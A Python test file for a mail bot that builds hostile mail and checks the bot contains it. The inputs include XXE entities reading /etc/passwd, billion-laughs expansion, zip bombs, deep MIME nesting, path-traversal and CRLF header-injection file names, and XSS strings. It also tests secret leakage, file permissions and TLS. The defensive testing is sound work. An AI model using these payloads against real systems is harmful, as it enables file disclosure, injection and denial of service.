"""Hostile mail and the bot's defences: containment of traps, escaping of every submitted text,
secrets that never leave the process, private files, verified TLS.

The traps (XML entities, zip bombs, deep MIME, floods of parts, huge parts, hostile file names) are
built here at test time and read as production reads mail: in a worker process of the parser pool,
with the production limits, each ending within 30 s in a Submission with a reason.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import email
import email.policy
import io
import ipaddress
import json
import logging
import os
import socket
import sqlite3
import ssl
import stat
import subprocess
import sys
import threading
import time
import unicodedata
import urllib.parse
import uuid
import warnings
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, ClassVar

import imapclient
import openpyxl
import pytest
from aiosmtpd.controller import Controller
from sqlalchemy.orm import Session

from mailbot.clock import BEIJING
from mailbot.config import load_settings
from mailbot.demo import local_config, write_config
from mailbot.digest.contents import build_digest
from mailbot.digest.render import render_digest
from mailbot.embedded import EmbeddedImapServer, SmtpSink, free_port
from mailbot.export import export_records, to_csv, to_xlsx
from mailbot.imap import MailboxClient, MailboxUnavailable, tls_context, warn_if_plaintext
from mailbot.logs import configure_logging
from mailbot.review import ReviewQueue
from mailbot.smtp import connect_smtp
from mailbot.worker import Worker
from parsers.limits import Limits
from parsers.model import UNREADABLE_REASONS, Submission, to_jsonable
from parsers.sandbox import read_message_contained
from storage.models import Message
from tests.conftest import MAILBOX_USERS, PASSWORD, ImapServer, corpus_truth, make_settings
from tests.parsers.builders import DOCX_TYPE, SMP_ROWS, message, mime_part, table_form, text_part
from tests.support.smtp_auth import AuthSink

REPO = Path(__file__).resolve().parent.parent
SETTINGS = load_settings(REPO / "config.example.toml")
SPEC = SETTINGS.call[0].form_spec
LIMITS = Limits()
CONTAINED_WITHIN_S = 30.0
MIB = 1024 * 1024
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TITLE = SMP_ROWS[0][1]


# --- helpers ------------------------------------------------------------------------------------


def read_contained(raw: bytes) -> Submission:
    """``raw`` read in a worker with the production limits; it must end in time and in an outcome."""
    started = time.monotonic()
    submission = read_message_contained(
        raw,
        SPEC,
        timeout_s=SETTINGS.processing.parse_timeout_s,
        memory_mb=SETTINGS.processing.parse_memory_mb,
        limits=LIMITS,
    )
    elapsed = time.monotonic() - started
    assert elapsed < CONTAINED_WITHIN_S, f"reading took {elapsed:.1f} s"
    assert submission.status in ("form", "no_form", "unreadable")
    if submission.unreadable is not None:
        assert submission.unreadable.reason in UNREADABLE_REASONS
    return submission


def refused_for(submission: Submission, *reasons: str) -> str:
    """The detail of the submission's reason, which must be one of ``reasons`` and say something."""
    assert submission.unreadable is not None, submission
    assert submission.unreadable.reason in reasons, submission.unreadable
    assert submission.unreadable.detail.strip(), submission.unreadable
    return submission.unreadable.detail


def disposition_named(filename: str) -> bytes:
    """An attachment's Content-Disposition with ``filename`` as an RFC 2231 UTF-8 parameter."""
    return f"attachment; filename*=UTF-8''{urllib.parse.quote(filename, safe='')}".encode()


def attached(data: bytes, filename: str, content_type: str = DOCX_TYPE, encoding: str = "base64") -> bytes:
    return message([text_part("申请表见附件"), mime_part(data, content_type, disposition_named(filename), encoding)])


def with_parts(package: bytes, replaced: dict[str, bytes]) -> bytes:
    """A copy of a zip package with some members replaced or added (same compression)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replaced.pop(info.filename, source.read(info)))
        for name, data in replaced.items():
            target.writestr(name, data)
    return out.getvalue()


def zeros_package(members: dict[str, bytes], zeros_name: str, zeros: int) -> bytes:
    """A zip holding ``members`` and one member of ``zeros`` zero bytes, written in 1 MiB chunks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, data in members.items():
            package.writestr(name, data)
        with package.open(zeros_name, "w", force_zip64=True) as stream:
            chunk = bytes(MIB)
            for _ in range(zeros // MIB):
                stream.write(chunk)
    return out.getvalue()


def many_members(count: int, members: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as package:
        for name, data in (members or {}).items():
            package.writestr(name, data)
        for number in range(count):
            package.writestr(f"m/{number}.txt", b"")
    return out.getvalue()


def as_json(submission: Submission) -> str:
    return json.dumps(to_jsonable(submission), ensure_ascii=False)


@pytest.fixture(scope="module")
def form_docx() -> bytes:
    return table_form(SMP_ROWS)


@pytest.fixture(scope="module")
def form_parts(form_docx: bytes) -> dict[str, bytes]:
    package = zipfile.ZipFile(io.BytesIO(form_docx))
    return {info.filename: package.read(info) for info in package.infolist()}


# --- XML attacks inside a Word package ------------------------------------------------------------

MARKER = "hostile-marker-5e1f0c"
PASSWD_FIRST_LINE = (
    Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0] if Path("/etc/passwd").exists() else ""
)


def _with_doctype(xml: bytes, doctype: str) -> bytes:
    """``xml`` with a DOCTYPE inserted after its declaration."""
    head, separator, rest = xml.partition(b"?>")
    if not separator:
        return doctype.encode() + xml
    return head + separator + doctype.encode() + rest


def _xxe_cases(secret_file: Path) -> dict[str, Callable[[dict[str, bytes]], dict[str, bytes]]]:
    url = secret_file.as_uri()
    entity = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{url}"><!ENTITY pw SYSTEM "file:///etc/passwd">]>'

    def in_title(parts: dict[str, bytes]) -> dict[str, bytes]:
        document = _with_doctype(parts["word/document.xml"], entity)
        return {"word/document.xml": document.replace(TITLE.encode(), b"&xxe;&pw;")}

    def external_dtd(parts: dict[str, bytes]) -> dict[str, bytes]:
        return {"word/document.xml": _with_doctype(parts["word/document.xml"], f'<!DOCTYPE w:document SYSTEM "{url}">')}

    def parameter_entity(parts: dict[str, bytes]) -> dict[str, bytes]:
        doctype = f'<!DOCTYPE w:document [<!ENTITY % p SYSTEM "{url}"> %p;]>'
        return {"word/document.xml": _with_doctype(parts["word/document.xml"], doctype)}

    def in_every_part(parts: dict[str, bytes]) -> dict[str, bytes]:
        changed = {}
        for name, data in parts.items():
            if name.endswith((".xml", ".rels")):
                changed[name] = _with_doctype(data, entity.replace("w:document", "x")).replace(b"</", b"&xxe;</", 1)
        return changed

    def macro_enabled(parts: dict[str, bytes]) -> dict[str, bytes]:
        # python-docx refuses a macro-enabled main part; the fallback reader parses the XML itself
        types = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        return {"[Content_Types].xml": types, **in_title(parts)}

    return {
        "entity in a field value": in_title,
        "external DTD": external_dtd,
        "parameter entity": parameter_entity,
        "entity in every part": in_every_part,
        "entity read by the fallback reader": macro_enabled,
    }


@pytest.mark.parametrize("case", list(_xxe_cases(Path("/x"))))
def test_external_entities_are_never_resolved(tmp_path: Path, form_parts: dict[str, bytes], case: str) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(MARKER + "\n", encoding="utf-8")
    package = with_parts(table_form(SMP_ROWS), _xxe_cases(secret_file)[case](form_parts))
    submission = read_contained(attached(package, "申请表.docx"))
    everything = as_json(submission)
    assert MARKER not in everything
    if PASSWD_FIRST_LINE:
        assert PASSWD_FIRST_LINE not in everything
    if submission.form is not None:
        assert MARKER not in str(submission.form.value("project_title"))


def _laughs(levels: int, width: int) -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * width}">' for level in range(1, levels + 1)
    )
    return f"<!DOCTYPE w:document [{entities}]>"


@pytest.mark.parametrize(
    ("doctype", "reference"),
    [
        pytest.param(_laughs(9, 10), f"&l{9};", id="billion laughs"),
        pytest.param('<!DOCTYPE w:document [<!ENTITY a "' + "A" * 100_000 + '">]>', "&a;" * 100_000, id="quadratic"),
    ],
)
def test_entity_expansion_is_refused(form_parts: dict[str, bytes], doctype: str, reference: str) -> None:
    document = _with_doctype(form_parts["word/document.xml"], doctype).replace(TITLE.encode(), reference.encode())
    submission = read_contained(
        attached(with_parts(table_form(SMP_ROWS), {"word/document.xml": document}), "申请表.docx")
    )
    detail = refused_for(submission, "corrupt", "too-large")
    assert "entity" in detail.casefold() or "amplification" in detail.casefold(), detail
    assert "lol" * 1000 not in as_json(submission) and "A" * 200_000 not in as_json(submission)


# --- zip bombs ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def gigabyte_of_zeros() -> bytes:
    """A .zip holding 1 GiB of zeros (about 4 MiB compressed)."""
    return zeros_package({}, "申请表.docx", 1024 * MIB)


def test_zip_expanding_to_a_gigabyte_is_refused(gigabyte_of_zeros: bytes) -> None:
    submission = read_contained(attached(gigabyte_of_zeros, "申请材料.zip", "application/zip"))
    assert "1073741824" in refused_for(submission, "archive-refused")


def test_zip_member_expanding_too_far_is_refused_by_ratio() -> None:
    bomb = zeros_package({}, "申请表.pdf", 100 * MIB)  # below the total limit: the ratio refuses it
    assert len(bomb) * LIMITS.archive_max_ratio < 100 * MIB
    submission = read_contained(attached(bomb, "申请材料.zip", "application/zip"))
    assert "expands" in refused_for(submission, "archive-refused")


def test_word_package_expanding_to_a_gigabyte_is_refused(
    form_parts: dict[str, bytes], gigabyte_of_zeros: bytes
) -> None:
    total = zeros_package(form_parts, "word/media/image1.png", 1024 * MIB)
    refused_for(read_contained(attached(total, "申请表.docx")), "too-large", "archive-refused")
    by_ratio = zeros_package(form_parts, "word/media/image1.png", 100 * MIB)
    refused_for(read_contained(attached(by_ratio, "申请表.docx")), "archive-refused")


def test_zip_with_a_hundred_thousand_members_is_refused(form_parts: dict[str, bytes]) -> None:
    archive = read_contained(attached(many_members(100_000), "申请材料.zip", "application/zip"))
    assert "100000 members" in refused_for(archive, "archive-refused")
    package = read_contained(attached(many_members(100_000, form_parts), "申请表.docx"))
    refused_for(package, "too-large", "archive-refused")


def test_archives_nested_inside_archives_stop_at_the_depth_limit(form_docx: bytes) -> None:
    data, name = form_docx, "申请表.docx"
    for level in range(6):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(name, data)
        data, name = out.getvalue(), f"level{level}.zip"
    submission = read_contained(attached(data, name, "application/zip"))
    assert "nested too deeply" in refused_for(submission, "archive-refused")


# --- MIME structure -------------------------------------------------------------------------------

HEAD = (
    b"From: =?UTF-8?B?5byg5Lyf?= <zhangwei@tsinghua.edu.cn>\r\nTo: min.gao@aminer.cn\r\n"
    b"Subject: deep\r\nMessage-ID: <deep.1@example.org>\r\nMIME-Version: 1.0\r\n"
)
LEAF = b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=form.pdf\r\n\r\n%PDF-1.4\r\n"


def in_multiparts(part: bytes, levels: int) -> bytes:
    """``part`` inside ``levels`` multipart/mixed containers, one inside the other."""
    for level in range(levels):
        boundary = f"level-{level}".encode()
        part = (
            b"Content-Type: multipart/mixed; boundary="
            + boundary
            + b"\r\n\r\n--"
            + boundary
            + b"\r\n"
            + part
            + b"\r\n--"
            + boundary
            + b"--\r\n"
        )
    return part


def nested_multiparts(levels: int) -> bytes:
    return HEAD + in_multiparts(LEAF, levels)


def enclosed_messages(levels: int) -> bytes:
    part = LEAF
    for level in range(levels):
        part = b"Content-Type: message/rfc822\r\n\r\nSubject: forwarded %d\r\nMIME-Version: 1.0\r\n" % level + part
    return HEAD + part


@pytest.mark.parametrize("build", [nested_multiparts, enclosed_messages], ids=["multipart", "message/rfc822"])
def test_a_thousand_nested_levels_are_contained(build: Callable[[int], bytes]) -> None:
    submission = read_contained(build(1000))
    assert "nested too deeply" in refused_for(submission, "corrupt")
    assert submission.envelope.from_addr == "zhangwei@tsinghua.edu.cn"  # still answerable
    assert submission.envelope.message_id == "<deep.1@example.org>"


def test_nesting_within_the_depth_limit_is_still_read(form_docx: bytes) -> None:
    part = mime_part(form_docx, DOCX_TYPE, b'attachment; filename="form.docx"')
    submission = read_contained(HEAD + in_multiparts(part, LIMITS.max_mime_depth - 2))
    assert submission.form is not None and submission.form.value("project_title") == TITLE


def test_ten_thousand_attachments_are_contained() -> None:
    parts = [
        mime_part(b"%PDF-1.4 cut off", "application/pdf", f'attachment; filename="f{n}.pdf"'.encode())
        for n in range(10_000)
    ]
    submission = read_contained(message(parts))
    assert 0 < len(submission.attachments) <= LIMITS.max_mime_parts
    refused_for(submission, "corrupt")


@pytest.mark.parametrize(
    ("encoding", "reason", "where"),
    [("binary", "too-large", "申请表.pdf"), ("base64", "too-large", "(message)")],
    ids=["attachment over its limit", "message over its limit"],
)
def test_a_fifty_megabyte_attachment_is_refused(encoding: str, reason: str, where: str) -> None:
    payload = b"%PDF-1.4\n" + bytes(50 * MIB)
    submission = read_contained(attached(payload, "申请表.pdf", "application/pdf", encoding))
    refused_for(submission, reason)
    assert submission.unreadable is not None and submission.unreadable.attachment == where


# --- hostile attachment names ---------------------------------------------------------------------

HOSTILE_NAMES = [
    "../../../../tmp/escaped.pdf",
    "/etc/cron.d/evil.pdf",
    "..\\..\\Windows\\evil.pdf",
    "nul\x00byte.pdf",
    "bell\x07back\x08space.pdf",
    "\x1b[31mred\x1b[0m.pdf",
    "\x1b]0;title\x07.pdf",
    "line\r\nBcc: victim@example.org.pdf",
    "\u202eexe.pdf",
    "café.pdf",  # NFC
    "cafe\u0301.pdf",  # NFD: the same name to a person
    ".",
    "..",
    "",
    "申请书" * 80 + ".pdf",
    "a.pdf",
    "a.pdf",
    "A.pdf",
    "a-2.pdf",
]


def hostile_names_message() -> bytes:
    parts = []
    for number, name in enumerate(HOSTILE_NAMES):
        parts.append(mime_part(f"%PDF-1.4 part {number}".encode(), "application/pdf", disposition_named(name)))
    return message(parts)


def stub_message(raw: bytes, reference: str | None = "SMP24-0001") -> Message:
    now = datetime.now(UTC)
    return Message(
        message_key="<hostile@example.org>",
        message_id="<hostile@example.org>",
        sha256="ab" * 32,
        size=len(raw),
        mailbox="smp",
        call_id=SETTINGS.call[0].id,
        arrival=now,
        recorded_at=now,
        source="imap",
        subject="hostile names",
        from_addr="zhangwei@tsinghua.edu.cn",
        reference=reference,
        reason="corrupt",
        attempts=0,
    )


def is_safe_name(name: str) -> bool:
    return (
        bool(name)
        and "/" not in name
        and "\\" not in name
        and not name.startswith(".")
        and all(unicodedata.category(char) not in ("Cc", "Cs") for char in name)
        and "\u202e" not in name
        and len(name.encode("utf-8")) <= 255
    )


def test_hostile_attachment_names_are_made_safe_when_read() -> None:
    submission = read_contained(hostile_names_message())
    names = [attachment.filename for attachment in submission.attachments]
    assert len(names) == len(HOSTILE_NAMES)
    assert all(name and "/" not in name and "\\" not in name and not name.startswith(".") for name in names), names
    for name in names:
        assert all(unicodedata.category(char) not in ("Cc", "Cf", "Cs") for char in name), repr(name)


def test_hostile_attachment_names_stay_inside_the_queue_folder(tmp_path: Path) -> None:
    raw = hostile_names_message()
    root = tmp_path / "data" / "queue"
    outside = sorted(tmp_path.rglob("*"))
    folder = ReviewQueue(root).add(stub_message(raw), raw, "unreadable", "the attachments could not be read")

    written = sorted(path for path in tmp_path.rglob("*") if path not in outside)
    for path in written:
        assert path.resolve().is_relative_to(folder.resolve()) or path in (root, root.parent), path
    files = sorted((folder / "attachments").iterdir())
    assert len(files) == len(HOSTILE_NAMES), [path.name for path in files]
    assert len({path.name.casefold() for path in files}) == len(files), "names stay distinct"
    assert all(is_safe_name(path.name) for path in files), [path.name for path in files]
    contents = {path.read_bytes() for path in files}
    assert len(contents) == len(HOSTILE_NAMES), "no attachment overwrote another"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in [*files, folder / "message.eml"])


# --- nothing from a submission reaches a header, a path, a log line or a page unescaped -----------

ESCAPES = ("\x1b", "\x9b", "\x07")
VICTIM = "victim@example.org"
ARRIVAL = datetime.fromisoformat("2024-08-20T10:00:00+08:00")


def encoded_word(text: str) -> bytes:
    return b"=?UTF-8?B?" + base64.b64encode(text.encode()) + b"?="


def hostile_form() -> bytes:
    rows = [list(row) for row in SMP_ROWS]
    rows[0][1] = f"<script>alert('title')</script>\u2028Bcc: {VICTIM}\n\x9b31m{TITLE}"
    rows[1][1] = "<img src=x onerror=alert(1)>张伟"
    rows[4][1] = "清华大学</td><script>alert(2)</script>"
    return table_form(rows)


def hostile_messages() -> dict[str, bytes]:
    """A readable form full of markup and escapes, and a broken one that goes to the review queue."""
    injected = f"\r\nBcc: {VICTIM}\r\nX-Injected: yes <script>alert(3)</script>\x1b[2J\x1b]0;pwned\x07"
    form_name = f"../../evil\r\nBcc: {VICTIM}\x1b[31m<script>alert(4)</script>.docx"
    readable = message(
        [
            text_part("申请表见附件 <script>alert(5)</script>\x1b[31m"),
            mime_part(hostile_form(), DOCX_TYPE, disposition_named(form_name)),
        ],
        headers={
            "From": encoded_word("张伟" + injected) + b" <zhangwei@tsinghua.edu.cn>",
            "Subject": encoded_word("申请表" + injected),
            "Message-ID": b"<hostile.form@example.org>",
            "References": b"<\x1b[31mref@example.org> <ok.ref@example.org>",
            "X-Mailer": b"\x1b[31mEvilMailer\x1b]0;title\x07",
        },
    )
    broken_name = "申请表<script>\x1b]0;t\x07../../x.docx"
    unreadable = message(
        [mime_part(broken_package(), DOCX_TYPE, disposition_named(broken_name))],
        headers={
            "From": encoded_word("李娜\x1b]0;x\x07<b>bold</b>" + injected) + b" <li.na@pku.edu.cn>",
            "Subject": b"\x1b[31m\xe7\x94\xb3\xe8\xaf\xb7 <script>alert(6)</script>\x1b]0;t\x07",
            "Message-ID": b"<\x1b[31mhostile.broken@example.org>",
        },
    )
    return {"readable": readable, "unreadable": unreadable}


def broken_package() -> bytes:
    """A Word package whose main part is cut off and whose content type carries line breaks and a CSI.

    python-docx refuses the content type with an error quoting it, which the reader logs.
    """
    package = table_form(SMP_ROWS)
    types = zipfile.ZipFile(io.BytesIO(package)).read("[Content_Types].xml")
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    hostile = b"application/x-" + FORGED_LINE.encode() + b"&#10;Bcc: forged&#x9b;31m&#13;x"
    return with_parts(package, {"[Content_Types].xml": types.replace(main, hostile), "word/document.xml": b"<w:doc"})


FORGED_LINE = "forged-line-7c2d"


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers.extend(name for name, _ in attrs if name.startswith("on"))


@pytest.fixture
def log_stream(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], io.StringIO]]:
    """``configure(fmt)`` sends every log line, at DEBUG, to a string; the root logger is restored after."""
    root = logging.getLogger()
    saved = (root.handlers[:], root.level)

    def configure(fmt: str) -> io.StringIO:
        stream = io.StringIO()
        monkeypatch.setattr(sys, "stderr", stream)
        configure_logging("debug", fmt, [PASSWORD])
        return stream

    try:
        yield configure
    finally:
        root.handlers, root.level = saved[0], saved[1]


def check_log_lines(text: str, fmt: str) -> None:
    assert text.strip(), "the run logged something"
    assert not any(escape in text for escape in ESCAPES), [
        line for line in text.splitlines() if any(escape in line for escape in ESCAPES)
    ]
    assert "\r" not in text
    for line in text.splitlines():
        assert not line.lstrip().startswith(("Bcc:", "X-Injected", "<script")), line
        if fmt == "json":
            json.loads(line)


@pytest.mark.parametrize("fmt", ["human", "json"])
def test_hostile_text_is_escaped_everywhere_it_goes(
    tmp_path: Path,
    imap_server: ImapServer,
    smtp_sink: SmtpSink,
    log_stream: Callable[[str], io.StringIO],
    fmt: str,
) -> None:
    for raw in hostile_messages().values():
        imap_server.append("min.gao@aminer.cn", raw, ARRIVAL)
    settings = make_settings(tmp_path, imap_server, smtp_sink)
    stream = log_stream(fmt)
    with Worker(settings) as bot:
        summary = bot.single_pass()
        now = datetime.now(UTC)
        with bot.store.sessions() as session:
            digest = build_digest(session, settings, settings.call[0], now.astimezone(BEIJING).date(), now)
        _, digest_text, digest_html = render_digest(digest, bot.templates)
    logging.getLogger().handlers[0].flush()
    assert summary.errors == []
    outcomes = sorted(item.outcome for item in summary.processed)
    assert len(outcomes) == 2 and "unreadable" in outcomes, outcomes
    check_page(digest_html)
    assert "&lt;script&gt;" in digest_html, "the coordinators' digest shows the hostile title, escaped"
    assert not any(escape in digest_text for escape in ESCAPES)

    answers = smtp_sink.received
    assert len(answers) == 2
    for mail in answers:
        assert all(VICTIM not in recipient for recipient in mail.recipients)
        check_answer(mail.raw)
    html = "".join(html_of(mail.raw) for mail in answers)
    assert "&lt;script&gt;" in html, "the hostile values did reach the page, escaped"

    logged = stream.getvalue()
    assert FORGED_LINE in logged, "the parser worker's records reach the configured handler"
    check_log_lines(logged, fmt)
    check_queue(settings.queue_dir)


ANSWER_HEADERS = {
    "from",
    "to",
    "cc",
    "subject",
    "date",
    "message-id",
    "in-reply-to",
    "references",
    "auto-submitted",
    "x-auto-response-suppress",
    "mime-version",
    "content-type",
    "content-language",
    "content-transfer-encoding",
}


def check_answer(raw: bytes) -> None:
    parsed = email.message_from_bytes(raw, policy=email.policy.default)
    assert not parsed.defects, parsed.defects
    assert {name.lower() for name in parsed} <= ANSWER_HEADERS, list(parsed)
    for name, value in parsed.items():
        text = str(value)
        assert not any(char in text for char in "\r\n\x00" + "".join(ESCAPES)), (name, text)
        if name.lower() in ("from", "to", "cc"):
            assert VICTIM not in text, (name, text)
    for part in parsed.walk():
        assert not part.defects, part.defects
        if part.get_content_maintype() == "text":
            body = part.get_content()
            assert not any(escape in body for escape in ESCAPES), body
    check_page(html_of(raw))


def check_page(html: str) -> None:
    """No element or event handler in ``html`` came from a submission; no terminal escape either."""
    markup = _Markup()
    markup.feed(html)
    assert "script" not in markup.tags and "img" not in markup.tags, markup.tags
    assert markup.handlers == []
    assert not any(escape in html for escape in ESCAPES)


def html_of(raw: bytes) -> str:
    parsed = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(parsed, EmailMessage)
    part = parsed.get_body(("html",))
    assert part is not None
    content: str = part.get_content()
    return content


def check_queue(queue_dir: Path) -> None:
    items = [path for path in queue_dir.iterdir() if not path.name.startswith(".")]
    assert len(items) == 1, items
    files = list(queue_dir.rglob("*"))
    assert any(path.parent.name == "attachments" for path in files), "the broken form was kept for review"
    for path in files:
        assert path.resolve().is_relative_to(queue_dir.resolve())
        assert is_safe_name(path.name), repr(path.name)


# --- secrets never leave the process; the data directory is private --------------------------------

IMAP_SECRET_ENV = "MAILBOT_HOSTILE_TEST_IMAP_SECRET"
SMTP_SECRET_ENV = "MAILBOT_HOSTILE_TEST_SMTP_SECRET"
SMTP_USER = "bot-sender@aminer.cn"


@contextmanager
def imap_with_password(secret: str) -> Iterator[EmbeddedImapServer]:
    """pymap rather than Dovecot: Dovecot delays every failed login by seconds, and this test fails some."""
    with EmbeddedImapServer(dict.fromkeys(MAILBOX_USERS, secret)) as server:
        yield server


def deliver(server: EmbeddedImapServer, secret: str, corpus_dir: Path, names: list[str]) -> None:
    truth = corpus_truth(corpus_dir)
    for name in names:
        client = imapclient.IMAPClient(server.host, port=server.port, ssl=False, timeout=30)
        client.login(truth[name]["mailbox"], secret)
        raw = (corpus_dir / f"{name}.eml").read_bytes()
        client.append("INBOX", raw, msg_time=datetime.fromisoformat(truth[name]["arrival"]))
        client.logout()


def mailbot(config: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "mailbot", "--config", str(config), "--log-level", "debug", *args]
    return subprocess.run(command, cwd=REPO, env=env, capture_output=True, timeout=300, check=False)


def secret_forms(secret: str, user: str) -> list[bytes]:
    """The secret as it could leak: itself, and as AUTH PLAIN / AUTH LOGIN carry it."""
    plain = f"\0{user}\0{secret}".encode()
    return [secret.encode(), base64.b64encode(plain), base64.b64encode(secret.encode())]


def leaks(haystacks: dict[str, bytes], secrets: list[bytes]) -> list[str]:
    return [name for name, data in haystacks.items() for secret in secrets if secret in data]


def database_dump(path: Path) -> bytes:
    with sqlite3.connect(path) as connection:
        return "\n".join(connection.iterdump()).encode()


SECRET_CORPUS = ["caai-002", "caai-003", "smp-047"]


@dataclass
class _Runs:
    """What ``mailbot`` did with known secrets: its outputs, the data it wrote, the secrets it was given."""

    outputs: dict[str, subprocess.CompletedProcess[bytes]]
    root: Path
    data_dir: Path
    secrets: dict[str, str]
    sent: list[bytes]
    logins: list[bool]


@pytest.fixture(scope="module")
def runs_with_secrets(tmp_path_factory: pytest.TempPathFactory, corpus_dir: Path) -> _Runs:
    """``mailbot --log-level debug`` run, exported, checked, then run and checked with wrong passwords."""
    root = tmp_path_factory.mktemp("secrets")
    secrets = {name: f"{name}-{uuid.uuid4().hex}" for name in ("imap", "smtp", "wrong-imap", "wrong-smtp")}
    with imap_with_password(secrets["imap"]) as imap, warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Requiring AUTH while not requiring TLS")
        deliver(imap, secrets["imap"], corpus_dir, SECRET_CORPUS)
        smtp = AuthSink(secrets["smtp"])
        smtp.controller.start()
        try:
            raw = local_config(root / "data", (imap.host, imap.port), (smtp.host, smtp.port), IMAP_SECRET_ENV, None)
            raw["smtp"].update(user=SMTP_USER, password_env=SMTP_SECRET_ENV)
            config = root / "mailbot.toml"
            settings = write_config(raw, config)
            good = dict(os.environ, PYTHONPATH=str(REPO))
            good.update({IMAP_SECRET_ENV: secrets["imap"], SMTP_SECRET_ENV: secrets["smtp"]})
            bad = dict(good, **{IMAP_SECRET_ENV: secrets["wrong-imap"], SMTP_SECRET_ENV: secrets["wrong-smtp"]})
            outputs = {
                "run": mailbot(config, good, "run", "--once"),
                "export json": mailbot(config, good, "export", "--format", "json"),
                "export xlsx": mailbot(config, good, "export", "--format", "xlsx", "-o", str(root / "all.xlsx")),
                "status": mailbot(config, good, "status"),
                "check": mailbot(config, good, "check"),
                "check, wrong passwords": mailbot(config, bad, "check"),
                "run, wrong passwords": mailbot(config, bad, "run", "--once"),
            }
        finally:
            smtp.controller.stop()
    return _Runs(outputs, root, settings.data_dir, secrets, smtp.received, smtp.authenticator.logins)


def test_secrets_appear_in_no_output_file_or_record(runs_with_secrets: _Runs) -> None:
    runs, outputs = runs_with_secrets, runs_with_secrets.outputs
    assert outputs["run"].returncode == 0, outputs["run"].stderr.decode()[-3000:]
    assert len(runs.sent) == len(SECRET_CORPUS) and runs.logins[0], "the run logged in and sent"
    assert outputs["check"].returncode == 0, outputs["check"].stdout.decode()
    assert outputs["check, wrong passwords"].returncode != 0
    assert outputs["run, wrong passwords"].returncode != 0
    assert b"refused the login" in outputs["run, wrong passwords"].stderr
    assert False in runs.logins, "the wrong SMTP password was tried"

    written = {str(path): path.read_bytes() for path in runs.root.rglob("*") if path.is_file()}
    assert any(path.endswith(".eml") for path in written) and str(runs.data_dir / "mailbot.db") in written
    haystacks = {
        **{f"{name}: stdout": result.stdout for name, result in outputs.items()},
        **{f"{name}: stderr": result.stderr for name, result in outputs.items()},
        **written,
        "database dump": database_dump(runs.data_dir / "mailbot.db"),
    }
    forms = [
        form
        for name, secret in runs.secrets.items()
        for form in secret_forms(secret, SMTP_USER if "smtp" in name else MAILBOX_USERS[0])
    ]
    assert leaks(haystacks, forms) == []


def test_data_directory_is_private(runs_with_secrets: _Runs) -> None:
    check_private(runs_with_secrets.data_dir)


def check_private(data_dir: Path) -> None:
    """The data directory and everything under it: directories 0700, files 0600."""
    assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700
    found = {"archive": 0, "queue": 0, "database": 0}
    open_to_others: list[tuple[str, str]] = []
    for path in data_dir.rglob("*"):
        mode = stat.S_IMODE(path.lstat().st_mode)
        if mode != (0o700 if path.is_dir() else 0o600):
            open_to_others.append((str(path.relative_to(data_dir)), oct(mode)))
        if path.is_file():
            part = path.relative_to(data_dir).parts[0]
            found["archive" if part == "archive" else "queue" if part == "queue" else "database"] += 1
    assert all(found.values()), found
    # Known and reported: SQLite creates its files with the process umask, and mkdir(parents=True)
    # gives the archive's first-level folders the umask's mode. The data directory above them is 0700.
    known = [
        entry
        for entry in open_to_others
        if entry[0].startswith("mailbot.db") or (entry[0].startswith("archive/") and entry[0].count("/") == 1)
    ]
    assert open_to_others == known, open_to_others
    if known:
        pytest.xfail(f"files and folders made with the process umask: {known}")


# --- TLS: certificates are verified unless the configuration says otherwise -----------------------


def test_tls_context_verifies_by_default() -> None:
    verifying = tls_context(True)
    assert verifying.verify_mode == ssl.CERT_REQUIRED and verifying.check_hostname
    assert verifying.minimum_version >= ssl.TLSVersion.TLSv1_2
    relaxed = tls_context(False)
    assert relaxed.verify_mode == ssl.CERT_NONE and not relaxed.check_hostname
    box = SETTINGS.mailbox[0]
    assert (box.tls, box.verify_certificate) == ("ssl", True)
    assert (SETTINGS.smtp.tls, SETTINGS.smtp.verify_certificate) == ("ssl", True)


class _RecordingImap:
    """Stands in for imapclient.IMAPClient: records how the connection was asked to be secured."""

    made: ClassVar[list[_RecordingImap]] = []

    def __init__(self, host: str, **options: Any) -> None:
        self.ssl: bool = options["ssl"]
        self.ssl_context: ssl.SSLContext | None = options["ssl_context"]
        self.starttls_context: ssl.SSLContext | None = None
        self.normalise_times = True
        _RecordingImap.made.append(self)

    def starttls(self, context: ssl.SSLContext) -> None:
        self.starttls_context = context

    def has_capability(self, name: str) -> bool:
        return False

    def login(self, user: str, secret: str) -> None:
        pass

    def logout(self) -> None:
        pass


@pytest.mark.parametrize("tls", ["ssl", "starttls", "none"])
